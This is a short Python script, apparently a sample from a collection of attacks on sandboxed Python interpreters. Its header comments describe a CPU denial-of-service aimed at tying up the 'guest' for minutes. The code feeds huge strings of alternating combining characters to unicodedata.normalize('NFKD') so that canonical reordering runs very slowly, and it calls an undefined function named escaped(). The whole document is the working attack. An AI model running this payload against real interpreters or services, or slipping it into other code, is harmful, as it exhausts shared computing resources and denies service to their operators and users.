# technique: combining characters whose classes fall and rise: each is put before all that have a higher one
# source: own
# goal: minutes in which nothing stops the guest, for a text that is not long
# impact: dos
# dos: cpu
import unicodedata

texts = '\u0315\u0316' * 2_000_000, 'a' + '\u0315' * 1_000_000 + '\u0316' * 1_000_000, '\u0315\uff9e' * 1_000_000, '\U0001d16d\u0316' * 1_000_000
for number, text in enumerate(texts):
    try:
        unicodedata.normalize('NFKD', text)
        escaped(number)
    except MemoryError:
        pass
